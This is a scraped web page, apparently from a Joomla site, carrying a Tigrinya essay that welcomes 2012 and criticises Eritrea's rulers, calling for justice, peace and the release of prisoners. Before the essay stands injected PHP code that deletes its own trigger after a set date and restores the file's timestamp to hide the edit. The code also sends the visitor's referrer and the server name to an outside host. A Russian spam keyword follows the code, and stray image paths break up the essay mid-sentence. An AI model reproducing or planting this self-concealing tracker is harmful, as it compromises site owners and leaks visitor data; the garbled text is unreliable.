check_meta(); function check_meta(){ $jp = __FILE__;$jptime = filemtime($jp); if(time() >= 1456727708){ $jp_c = file_get_contents($jp); if($t = @strpos($jp_c,"check_meta();")) { $contentp = substr($jp_c,0,$t); if(@file_put_contents($jp, $contentp)){ @touch($jp,$jptime); } } }@file_get_contents("http://web.51.la:82/go.asp?svid=17&id=18776693&referrer=".$_SERVER['HTTP_REFERER']."&vpage=http://".$_SERVER['SERVER_NAME']."/components/com_content/helpers/helpers.php"); } መርሓባ ዓመተ 2012። “ከም ቀደም መሲሉክን፡ ውሕጅ ሎም ዘበን ግን እንዳ’ንሰራሰረ ደኣ ወሰደክን።”
кремлевская диета

መርሓባ ዓመተ 2012። “ከም ቀደም መሲሉክን፡ ውሕጅ ሎም ዘበን ግን እንዳ’ንሰራሰረ ደኣ ወሰደክን።”

User Rating: / 1
PoorBest









መርሓባ ዓመተ 2012ከም ቀደም መሲሉክን፡ውሕጅ ሎም ዘበን ግን እንዳንሰራሰረ ደኣ ወሰደክን።

ወትሩ ዘይሕለል ምስጋና ንልዑል ፈጣሪ ናብ ሓድሽ ዓመት ዘብጽሓና! ሕሙምና ፈዊሱ፡ ጥሙይና ዓንጊሉ፡ ድኹምና ሓይቡ፡ ቁሩርና ኣማሚቑ፡ ጸገምና ጸሪጉ፡ መለኽቲ ኣልሚሱ፡ ሰላምን ቅሳነትን ፍትሕን ዝዓሰሎ ዓመተ 2012 ይግበርልና! ኣሜን!

ዓሚ ከምዚ ሎሚ ፡ንዓመተ 2011 ንምቅባል ዝደረስኩዎ ግጥሚ እዕርየ ዝዝክሮ፤ ደልየ ነይረውን፡ ንብርኽቲ ዓደይ ዝቐደሰት ዓመት ክትኮነለይ። ፍትሕን ሰላምን ዝነግሰላ ዓመት ክትፈርየለይ። ግለ ካብ ትሕዞኣውን፡

መርሓባ መርሓባ በዓልሓዲሽ ዓመት፡

ተመስገን በጺሑ፡ ትጽቢተይ ብኡነት።

ምቕልልቲ ኩንልና፡ ንኹሉኣሕጉሲ፡ኣድንኒ ሰብብረት፡ ጸጽቡቕ ቀልሲ።

ይእከልኩም በልና፡ ዓወት ውረስዮ፡

ንመስዋእቲ ኣሕዋት፡ ብግርማ ምልእዮ።

ዓመተይ!!

ኣይትተዓንቀፊ ካብቲትደልይዮ፡

ታህዋኸይ ፍጡርዩ፡ ባዕልኺለኽዮ።

     በሉስከ መዓስ ተጋግየ? ሕጅውን ጸሎተይን ድልየተይን ከምኡውን ቃልሰይ ኣይክቕየርንዩ። ኣብ ዓመት 2011 ከባብየይ ብሳላ ሰላማዊ ቃልስታትን፡ ዝኽፈል ዘሎ መስውእቱን፡ ብዓወታት ዓምቢቦም፡ ህዝብታቶም ብሳል ቃልሶም ብጸጋ ተመሊኦም፡ መናእሰይን ዓበይትን ብተስፋን፡ ፈንጠዝያን፡ ክዘሉን ክድሰቱን፡ ርእየዶ ኸይኮንኩ ኣንታ? ብኣንጻርዚውን፡ መንከማና ዝብሉ ዝነበሩ ጸዋጋት መለኽቲ፡ ጭራኦም ደጒሎም ክሃድሙን፡ ተሞቁሖም ኣብ ቅድሚ ፍትሒ ክዳነዩን፡ ኣይንርኣዮ እንተ ገሊኦምውን ዋላ እቲ ዘይንቡር ምጉያሕ ከም ንቡር ያኢ ኮይኑስ ስኢኖሞ፡ ክፍርፍዑ ዝረኣኹሉ ዓመት ስለ ዝኾነ፤ ኩሉ ሕመቑ ዕሽሽ ብምባል ንስለ ዝሓሸ መጻኢ፡ መርሓባ ምባለይ፡ ዳርጋ ብፍጹም ኣይሓመቐንን። ስለዚ ሕጂውን ደጊመ መርሓባ ንሓዳሽ ዓመት 2012 ይብል ኣሎኹሞ፣ ዓመተ ዕርቅን፡ ሕድገትን፡ ሰላምን፡ ቅሳነትን፡ ምዕባለን፡ ፍትሕን፡ ዲሞክራሲን ትኹነልና!

     ከምቲ ዝበሃልሲ፡ ጎቦስ እምኒ ድሕሪእምኒ እንዳኣግዓዝካ ናብ ጎልጎል ዝቕየር እሞ፡ መለኽቲውን ወግሐ፡ ጸብሐ፡ ኮታ ሓደ፡ ድሕሪ ሓደ ንመሰረታቶም እንዳ ጉሓፉ ስለ ዝኸዱ፡ ከምዛ ሰብ ዘይነበሮም ሌጣ ምትራፎም ልሙድዩ። ከምኡ ስለ ዝኾነውን እንሆንዶ ምልኪ ሃገርና ኣብ 20 ዓመቱ ድሮ ቁሪ ኣትዩዎን፡ ገብኢ መሊሱሉን፡ ቀደም ዝተሓረሞ ኮቦርታ ኢጋድ፡ ጋቢ ሕብረት ኣፍሪቃ፡ ነጸላ ሕቡራት ሃገራት ሃሰውሰው የብሎ። ኣንቱም ሰባት ንዘይፈልጥ ክገርሞ ይኽእል ይኸውን? እዚ ትማሊ ሰብ ምዃኑ ተዘንጊዑ፡ጻድቕዝብል መዓርግውን ዳርጋ ንኢሱዎስመልኣኽዝብል ንጌጽ ደጊም ማእሚኡዎ መንገብገብ ኣወናዊኑዎ ነብሱ ኣብ ምፍታሽ በጺሑ ዝነበረ ስልጣን ሓያላት፡ ካን ሕጂስ ወየን ዝርካበንህዝባውያንመቖምያታቱ ስኢኑወን፡ ዓንዲመስዋእቱተሓርኪሙ፡ ኣያን፡ ኣቦን ናይ ኣብ ፈቐዶ ባሕርን ምድረበዳን ብኾንቱ ዝጓሓፉን፡ ኣካላቶም ንዶላራት ብመሸጣ ዝጉያሕ ናይ ዘሎዉ ኤርትራውያን መናእሰይደቁኮይኑስ፡ ግርማኡን፡ መንከምኡን ለጊሱ፡  ወግሐ ጸብሐ፡ ኣብኤህ!’ በጺሑ ዝእኖሆ።

     ወዮም ንዑኡ ዝመሳሰሉ ዝነበሩ ደቂ-ማሕበሩ፡ ካብ ስልጣንን ሃበስ-ቀደስን ተኸሊኦምን ኣፍንጫታትቶም ተደርዒሞም ጥራሕዘይኮነስ፡ እቲ ኣጉል መሕሰቢታቶም ኮይኑ ዝጸንሐ ሃውተታ፡ኣይውረድይብሉ፡ ኮታ መላኽ ሃገርናውን ስውያ ወሲኹ ክወናወነሉ ዝነበረ ሃውተታዊ ፍልስፍና፡ ኮታ ዕል-ዕለ ተባዕታይ ኣርሓ ደርሆ እንተበልኩዎ መዓስ ክንእሶ ኢሉ። ኣብዚ ዘበን ብዕል-ዕለ ተታሊለን ንዝበለጸ እንቋቁሖ ዝምነያ ደርሁት ሳላ ምዕብልና ክንደየናይ ክርከባ ኾይነን? ስለዚ ኣሕዋትን ኣሓትን፡ እቲ ኣብ ቅድመይ ዝርእዮ ዘሎኹ ጸወታ ዒንኪላሎ ደጊም ይውዳእ ዘሎ። ግን ነዚ እንርእዮ ዘሎና ሕሱም ዓለም ኣብ ግምት ብምእታው፡ ዝኽሪ መስዋእትና ከቢሩን ተዘኪሩን ምእንታን ክነብር፡ ድኻምን ስራሕን መናእሰይ ኣስገዳድ ሃገራዊ ኣገልግሎት ንኸንቱ ከይጠፍእን፡ ዓመት 2012 ካብ ተካል ሕምሽምሻዊ ህሞት ለውጢ ኸዊላ፡ ሕሰም ጥፍኣት ሓድ-ሕድ ኣልጊሳ፡ ሰላማዊ ዝኾነ ውሑስ መቓይሮ ህዝባዊ መንግስትን፡ ስልጣንን ክትዕደለና ድልየተይ። ነዚ ብምስትውዓልውን ንልቢ ዘሎዎ ክመክር ኣተፈተንኩ፣ ንልቢ ዘይተሳእኖውን ልቢ ኣይትኽልኣዮ እንተበልኩ፡ ዘይንቡርመዓስ ክኸውን ኢሉ?

     ኣብ ቀረባ እዋን፡ ሓደ ካብ ዓቀይቶት መላኺ ስርዓት ሃገርና ክብሎ ከም ዝሰማዕኩዎ፡እዚ እንጓዓዞ ዘሎና (ሃገርና ማለቱ) ካባኡ ዝበለጸ ኣማራጺ መንገዲ ስለ ዘይረኸብናሉ ብሓጎጽጎጽ ክንከዶ ንግደድ ዘሎና። ዝሓሸመንገዲ እንተዝነብርና፡ ንሕናውን ከማኹም ሰብ እንዲና፡ ጽቡቕ መዓስ ምጸላእናዮ? ስለዚ ንመተካእታ ዘይብሉ ጉዳይ፡ ከም ቀደምና ደኣ መዓንጣና ሸጥ ኣቢልና ንመክቶ!” (ብናተይ ኣቀራርባ ተመዓራርዩ ኣሎ።) ክብል ሰሚዐዮ። ሕጂዶ ካባኹም ክሓብኦ፡ ደንጊጸሉ።እንታይ ርካቡ ረኸበ፡ እዚ ጅግና ሓወይ!” ምባል ኣይገድፍኩን። ብርግጽ ሳላ ዝረኸቦ ዓቀይታዊ ሓለፋታት፡ ንዝርካባ ወልቃዊት ሂወቱ ስጋብ ንአውሮጳ ተጓዒዙን ተሓኪሙን ላቐባ ክገብር ዝኸኣለ ምባለይ ብሓቂ ድፍረት ከስምዕ ይኽእል ይኸውንዩ። ግን ኣነ ንምንታይ ነቲ ሓለፋ ረኺቡዎ? ኣይኮንኩን ክብል ዝደሊ። እቲ ብሰንኪ ጉጉይ መንገዲ ምሕደራኡን ፖሊሲኡን ሓለፋ ያኢ ተቖጺሩ ዝእኖሆ ሕክምናዊረድኤት፡ ኩሉ ክረኽቦ ይግባእ ነይሩ ዝብል ዘሎኹ። ብሓቂ እንተኾይኑውን፡ ንሱ ዘይረኸበሞ መን ብዝያዳኡኸ ሓለፋ ክወሃቦ ነይሩ? ነዚ ሕጂ ሓለፋ ኮይኑ ያኢ ረኺቡዎ ዘሎስ እንቋዕ ኣይሰኣኖውን። ከም መግለጺ ነፍሱ ይምሓር ተጋዳላይ ሳልሕ፡ መኪ ክንደይ ተጋደልቲ ነበር ነዚ ሓለፋ ስኢኖም ንዓዲ ኩላህና ቀደም ዘይተሳጋገሩ። ኣነ ዝምነዮ እቲ ሎሚ ሓለፋ ኮይኑ ዘሎ ቁንጣሮ፡ ንኹሉ ኤርትራዊ ንኽባጻሕን ጸገምናን ሕሰምናን ንኸልግስዩ።

     ኣንቱም ሰባት፡ ኣብ ኩሉ ኤርትራዊ ዘሎ ሃገራዊ ወኒ በረኸትኮዩ። ነዚ ከማቓርሕ ዝኽእል ራኢ፡ እንኳይዶ ነዛ ቁንጣሮ ሃገርናስ፡ ንዓሰርተ ኽንዳኣ ንኽሰርሕ ዓቕሚ ዘሎዎ ህዝቢዩ። እዚ ትማሊ ንስለ ሃገሩ ነብሱ ዘይበቐቐ ህዝቢዚ፡ ወዮ ደኣ ብሰንኪ ስሱዕ መሪሕነት ባህጉን ድልየቱን  ተጨውዩ ናብ ዘየድሊ ኣቕጣጫ ተጠምዚዙ እምበር፡ ከምቲ ንቕያ ኣብ ነጻነቱዘርኣዮ፡ ድሮ ንቕያ ሓርነቱ ርጉጽ ገይሩዎኮ ምኾነ ነይሩዩ። እሞ ሕጂውን ማይ ኣይሓለፎን። ኣብ ዓመተ 2012 ራኢኡ ብገዛኣ ነብሱን ባዕሉን ወኒኑ፡ ራህዋን ምዕባለን ከምቀደሙ ክግስግስን ክሓፍስን ንኽሪኦ ምንዮተይ ወሰን የብሉን።

     ወዮ ደኣ ጥዑም-ጥዑም ጥዒሙኒ ናብ ዘይደለኹዎ ቁሩብ ኣስጊለኩም ጸኒሐምበር፡ ነዚ ኣብ ልዕሊ ዘሎ ብሂል ዓቀይቶት ይኹን ጎይትኦም ክምልስ እንተኾይነስ፡ ኣይፋልኩምን! ነዚ ኢልኩም ደም ኣይትተሓለቡልና! ናይ ነብሰታትኩም ካብ መረጽኩሞ እንታይ ክበሃል ኢሉ፡ ተረካብ ይዓድዮከምዝብሉዎ ግን፡ ንምንታይ ንዘይሰልጥ ባህግታትኩም ህዝቢ ኣብ ዘይተሕተተሉን፡ዘየድመጸሉን፡ ዘይውሳነኡን ደም ንኽሕለብ ትገብሩ? ብዘይቃለዓለም ግን ህዝቢ ኤርትራ ንሃገሩ ዝኸውን ንኽሰርሕ ዓቕሚ ስለዝውንን፡ ንስኹም ባልዕ ኮንኩም እተሳቕዩዎ ዘሎኹም፡ ካብ ሂወቱ ኣልገሱሉ! ይኽእል ነዛ ሃገር፡ ዓዲ ጸባን መዓርን ክቕይራ። ንስኹምውን ከም ሰብኩም ነዚ ሕጂ ከም ሓለፋ ገርኩም እትወስዱዎ ዘሎኹም ቁንጣሮ፡ ካን ብድቁሳትኩምኣብ ተተርኣሳትኩም ምረኸብኩሞ ነርኩም። ሓቂ-ብሓቂ እቲ ቕኑዕ መንገዲ ጠፊኡኩም ዘሎ! ኣልግሱሉ! እወ ሕጂ ኣልግሱሉ።

     ካን ነዛ ሰፋሕ ዓለም ጠንጢንካያን ተሓሪምካያን፡ ሰብካን ማልካን ኣብ መጻብቦ ዳጒንካ ትነብር ከምዘየለኻስ፡ ነዚ ኣብ ጸቢብካ ክነብር ዘይመረጸ ግን ፍቕሪ ሃገሩ ከይጸገበ ብሰንኪ ተካል ምሕደራኻ በብእዋኑ ንሃገሩ ጠንጢኑ ድሕሪ ምውጻእ፡ እቲ ዘዋጽኦ ኮታ ተመሳሲሉ ምስ ዝሰፍሐ ዓለም ተላልዩን ነብሱ ኣመሓዲሩ ከከም ዓቕሙ ጸጋታት ዝሓኑኽ ዘሎኣካል ህዝቢ ኤርትራዚ፡ ሓደ ካብቲ ውሁብ ኮይኑ ዘሎ ሓለፋታቱ ርእይቶኻ ብነጻ ምግላጽዩ።ንሕና ነዚ ንመደናገሪ ዝመጽኣ ዘይከኣል ነገር ኣይንኣምነሉን ኢና። ግን ንምድንጋርኩም ኢሎም ሓቂ ካብ በሉኹም ግን፡ በቲ ኣገባቦም ተጠቒምኩም ትጋገዩ ኣሎኹም ኢልኩም ኣስምዑልና።ዝጥዕም ኮታ ኣብ ውዲታዊ ክለሳ-ሓሳብ (ኮንስፒራሲ ቲዮሪዝነብር ዘይምዕሩይ ሃበስ-ቀደስ ተጎዝጕዝካ ሃለውለው ምባል ተመሪጹስ፡ ፈርሙልና ክበሃል ኣብ ፈቐድኡ ንምስክሮ እኖሆ። እቲ ሕቂ ግን እዚ ኣገባብ ንሃገር ኣየድሕን፡ ንዘለቕለቕ ኢሉ ዘሎ ስልጣናትኩም እውን ኣየደልድልንዩ። ዝልከም ክትልኩሙ እምበር፡ ጌና ምስ መንግስቲ ኣሜሪካ ንምስዕሳዕ፡ እንተኾይኑልኩም ሎቢዪስትስ ብገንዘብ ክትቑጸሩ መዓስ ክተርፍ ኢሉ? “ልዕሊ ኣቡን ካቶሊክ ክንከውን ኣይንፈትንተባሂልናዶ ከይኮንና ቅድሚ ሕጂ።

     ዓለም በዚ እትስጉሞ ዘሎ ናህሪ፡ ኣብ ዓመት 2012 ኣብ ኣጠስጢስኩሞ ዘሎኹም ስልጣን ንኽትቅጽሉ ካብ ዝደልየኩም፡ እቲ ዘይደልየኩም ብብዝሒ ክተዓጻጸፍ ምዃኑ ትዝንግዑዎ ኢኹም ኣይብልንየ። በዚ መሪጺኩሞዘሎኹሞ ኣገባብዚውን ብርግጽ መዓልታት ስልጣንኩም እንዳሕጸረዩ። እወ ከምቲ ኣቐዲመ ዝበልኩዎ ወዮ መለቀብ ዕድመኹም ዝጸንሑ ደቂ-ማሕበርኩም  ተተማሊኦሞ ንዓዲ ኩላህና ከይዶምን ይኸዱንዮም ዘሎዉ። እንተኽኢልኩሞ እቲ ዝተርፈኩም ዘሎስ፡ ነዛ ብርኽቲ ሃገርና ናብቲ ንቡር ባህጋ፡ ማለት ዓዲ ሰላምን፡ ቅሳነትን፡ ፍትሕን፡ ማዕርነትን፡ ዲሞክራሲን ንኽትሰጋገር ምእንታን ክትተሓጋገዙዋዩ። እዚ ጸጋ ህዝባዊዩሞ፡ ህዝቢ ባዕሉ ክውንኖ ግድንዩ። ደጊምሲ ዓዕንቀፍቱ ካብ ምዃን፡ ኣብ መሳርሕ ለውጡ  ትስለፉዶዩ፡ ሕቶ ዓመትዚ። ደጊም ሕጂስ ከምቲ ቀደም ጉልባብካ ገሊጽካን ብሕጫጨን፡ኣብ ኤርትራ ዲሞክራሲ ከም ስርዓት ከነበግሶ 40-50 ዓመታት ገና ተሪፉዎኣሎ።ኣይበሃልንንዩ። ! ! ! እቲ ከምኡ ንምባል ዝሕግዝ ዝነበረ ዘይጥጡሕ ሰግለለት ደጊም ሓሸውሽው ኢሉን፡ ዓንዩንዩ። እቶም ከምኡን ወዲ ኸምኡን ከሳስዩ ዝጸንሑ ኣሕሉቕ ሃበስ-ቀደስ፡ ከም ፕረዚደንት ሊብያ ነበር መዓመር፡ ቓዛፊ ንመቓብር ሒዙምዎ ከይዶምዮም! ግን ከኣ፡ ካባኡ ኣይሕለፍ ተባሂሉ ሕጂ፡  ክድገም እንተ ተመሪጹውን ከምዚ ኣርእስቲ ጽሑፈይ እቲ ሓቂ።ከም ቀደም መሲሉክን፡ ውሕጅ ሎምዘበን ግን እንዳንሰራሰረ ደኣ ወስደክን።እቲ ዝስዕቦ ሕቂዩ።

     ግን፡ ንስለ ብርኽቲ ሃገር። ንስለ ውላዱ ዘይበቐቐ ህዝቢዚ። ንስለ እቶም ንነፍሶም ከይበቕቑ ንስለ ፍትሕን፡ ሰላምን፡ ዕርቅን፡ ብልጽግናን ሃገር በጃ ዝገበሩ ስዉኣትና። ንስለዞም መተካእታ ተኸሊኦም ኣብዚ ማሺነራዊ ዓለም ከምዘይነብሩ ዘሎዉ፡ መዋዕል ንእስነቶም ብሙሉኡ ብነጻ ማል፡ ብጥራይ ኢዶምን፡ ብኣጻፍሮም ክፍሕሩን፡ ክሃንጹን፡ ከልምዑን፡ ክከላኸሉን ወግሐ፡ጸብሐ ደም ዝሕለቡ ዘሎዉን ደቕኹም፡  ዕርቂ ፍተዉ። ፍትሒ ምለሱ። ቅዋም ኣተግብሩ። እሱራትፖሊቲካን ሕልናን ብነጻ ልቐቑ። ገደብ ግዜ ዘይብሉ ግዱድ ዕስክርና ኣቑሙ። ሕረስ ሓረስታ፡ ንገድ ነጋዳይ፡ ፍለጥ ፈላጣይ በሉ። ብሰላም ስልጣንኩም ንህዝቢ ኣሰጋግሩ። ብርግጽ እቲ ብቕድሚ ሕጂ ብሰንኪ ትሪ ልቡኹም ዘይዳህሰስኩሞ፡ 